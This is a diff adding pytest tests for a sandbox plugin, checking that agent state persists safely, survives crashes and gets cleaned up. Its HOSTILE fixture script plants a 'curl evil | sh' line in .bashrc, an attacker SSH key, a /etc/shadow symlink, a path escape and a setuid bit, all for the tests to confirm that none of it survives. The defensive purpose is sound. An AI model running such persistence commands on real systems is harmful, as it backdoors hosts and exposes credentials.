@@ -1,0 +1,207 @@
+"""State persistence in real sandboxes: only the four directories survive, safely."""
+
+from __future__ import annotations
+
+import os
+import secrets
+import signal
+import subprocess
+import sys
+import tarfile
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import ours
+
+from pytest_agentbox import paths
+from pytest_agentbox.state import Limits, StateStore
+
+HOSTILE = """
+set -e
+cd ~
+mkdir -p workspace data output state .ssh .config
+echo legit-w > workspace/notes.txt
+echo legit-d > data/table.csv
+echo legit-o > output/report.md
+echo legit-s > state/memory.json
+echo 'curl evil | sh' > .bashrc
+echo 'ssh-ed25519 AAAA attacker' > .ssh/authorized_keys
+echo x > .config/autostart
+ln -s /etc/shadow workspace/link
+ln -s / data/root
+echo dup > workspace/orig
+ln workspace/orig workspace/hardlink
+mkfifo output/fifo
+echo escaped > state/../escape
+head -c 209715200 /dev/zero > output/huge.bin
+chmod 4755 workspace/notes.txt || true
+"""
+
+LEGIT = {
+    "workspace/notes.txt": b"legit-w\n",
+    "data/table.csv": b"legit-d\n",
+    "output/report.md": b"legit-o\n",
+    "state/memory.json": b"legit-s\n",
+}
+
+
+def stored_files(store: StateStore, scope: str) -> dict[str, tarfile.TarInfo]:
+    path = store.load(scope)
+    assert path is not None
+    with tarfile.open(path) as tar:
+        return {m.name: m for m in tar.getmembers() if m.isfile()}
+
+
+def test_hostile_writes_do_not_survive_and_next_sandbox_sees_only_legit_files(
+    make_sandbox: Any, tmp_path: Path
+) -> None:
+    store, scope = StateStore(tmp_path / "store"), "agent/hostile"
+    limits = Limits(max_total_bytes=100 * 1024 * 1024)
+    first = make_sandbox(state_scope=scope, state_store=store, state_limits=limits)
+    assert first.run(HOSTILE).exit_code == 0
+    first.close()
+    files = stored_files(store, scope)
+    # The hard-linked pair arrives as one regular file plus a link member: one name stays.
+    pair = {"workspace/orig", "workspace/hardlink"}
+    assert len(set(files) & pair) == 1
+    # huge.bin exceeded the cap; symlinks, fifo, dotfiles and the escape are gone.
+    assert set(files) - pair == set(LEGIT)
+    assert all(m.mode & 0o6000 == 0 and m.uid == 1000 for m in files.values())
+    for dropped in ("workspace/link", "data/root", "output/fifo", "output/huge.bin"):
+        assert dropped in first.state_report or "more" in first.state_report
+
+    second = make_sandbox(state_scope=scope, state_store=store, state_limits=limits)
+    listing = second.run("cd ~ && find . -path ./app -prune -o -print | sort").stdout.split()
+    # The image's own skeleton .bashrc may exist; the agent's poisoned one must not.
+    assert b"evil" not in second.run("cat ~/.bashrc").stdout.encode()
+    assert "./.ssh" not in listing
+    assert "./escape" not in listing and "./.config" not in listing
+    for name, data in LEGIT.items():
+        assert second.read_file(f"{second.home}/{name}") == data
+    assert "./workspace/link" not in listing and "./output/fifo" not in listing
+
+
+def test_crash_during_snapshot_keeps_the_previous_state(make_sandbox: Any, tmp_path: Path) -> None:
+    store, scope = StateStore(tmp_path / "store"), "agent/crash"
+    sb = make_sandbox(state_scope=scope, state_store=store)
+    sb.run("mkdir -p ~/state && echo v1 > ~/state/v")
+    sb.close()
+    before = store.load(scope).read_bytes()
+
+    sb2 = make_sandbox(state_scope=scope, state_store=store)
+    sb2.run("echo v2 > ~/state/v && head -c 5000000 /dev/urandom > ~/state/big")
+    real = sb2.container.get_archive
+
+    def dying_archive(path: str) -> Any:
+        stream, stat = real(path)
+
+        def chunks() -> Any:
+            for i, chunk in enumerate(stream):
+                if i == 3:
+                    raise ConnectionError("engine went away mid-snapshot")
+                yield chunk
+
+        return chunks(), stat
+
+    sb2.container.get_archive = dying_archive
+    sb2.close()
+    assert store.load(scope).read_bytes() == before
+    assert any("previous state kept" in w for w in sb2.warnings)
+    assert not [p for p in store.root.rglob("*") if ".tmp" in p.name]
+
+
+SUITE = """
+import pytest
+
+@pytest.mark.parametrize("i", range(8))
+@pytest.mark.agentbox(state="shared")
+def test_shared(sandbox, i):
+    r = sandbox.run("mkdir -p ~/state && echo %d >> ~/state/log && cat ~/state/log" % i)
+    assert r.exit_code == 0
+
+@pytest.mark.parametrize("i", range(12))
+def test_plain(sandbox, i):
+    assert sandbox.run("id -u").stdout.strip() != "0"
+
+@pytest.mark.parametrize("i", range(4))
+def test_fails_on_purpose(sandbox, i):
+    assert sandbox.run("echo %d" % i).stdout == "never"
+"""
+
+
+def test_parallel_suite_has_right_outcomes_and_leaves_nothing(
+    pytester: pytest.Pytester, docker_client: Any, base_image: str
+) -> None:
+    pytester.makepyfile(test_suite=SUITE)
+    run_id = secrets.token_hex(8)
+    result = pytester.runpytest_subprocess(
+        "-n", "4", f"--testrunuid={run_id}", "--agentbox-require-docker",
+        f"--agentbox-image={base_image}", "-p", "no:randomly", timeout=600,
+    )  # fmt: skip
+    result.assert_outcomes(passed=20, failed=4)
+    assert ours(docker_client, run_id) == []
+    store = StateStore(pytester.path / ".pytest_cache" / "agentbox" / "state")
+    (info,) = store.list()
+    lines = stored_files(store, info.scope)
+    assert "state/log" in lines  # serialised saves: one complete file, never a torn tar
+
+
+KILLABLE = """
+import time
+def test_hangs(sandbox, sandbox_factory):
+    sandbox_factory()
+    print("READY", flush=True)
+    time.sleep(600)
+"""
+
+
+def test_sigkilled_run_is_cleaned_by_the_next_run_and_strangers_untouched(
+    pytester: pytest.Pytester, docker_client: Any, base_image: str
+) -> None:
+    pytester.makepyfile(test_killable=KILLABLE)
+    stranger = docker_client.containers.run(
+        base_image, ["sleep", "300"], detach=True, name=f"not-ours-{secrets.token_hex(4)}"
+    )
+    try:
+        dead_run = secrets.token_hex(8)
+        env = {**os.environ, "PYTEST_XDIST_TESTRUNUID": dead_run}
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "pytest", "-s", "-p", "no:cacheprovider",
+             f"--agentbox-image={base_image}", "test_killable.py"],
+            cwd=pytester.path, env=env, stdout=subprocess.PIPE, text=True,
+        )  # fmt: skip
+        assert proc.stdout is not None
+        deadline = time.monotonic() + 120
+        for line in proc.stdout:
+            if "READY" in line or time.monotonic() > deadline:
+                break
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+        leaked = ours(docker_client, dead_run)
+        assert len(leaked) >= 2  # two sandboxes left running by the killed run
+
+        pytester.makepyfile(test_next="def test_next(sandbox):\n    assert sandbox\n")
+        nxt = pytester.runpytest_subprocess(
+            "-p", "no:cacheprovider", f"--agentbox-image={base_image}", "test_next.py"
+        )
+        nxt.assert_outcomes(passed=1)
+        assert ours(docker_client, dead_run) == []
+        nxt.stdout.fnmatch_lines(["*leaked resources cleaned: [1-9]*"])
+        stranger.reload()
+        assert stranger.status == "running"
+    finally:
+        stranger.remove(force=True)
+
+
+def test_gc_leaves_objects_of_live_owners(docker_client: Any, base_image: str) -> None:
+    from pytest_agentbox import cleanup
+
+    owner = paths.Owner.current("live-" + secrets.token_hex(4))
+    c = docker_client.containers.create(base_image, ["true"], labels=owner.labels("sandbox"))
+    try:
+        assert all(leak.name != c.name for leak in cleanup.collect(docker_client))
+        c.reload()
+    finally:
+        c.remove(force=True)
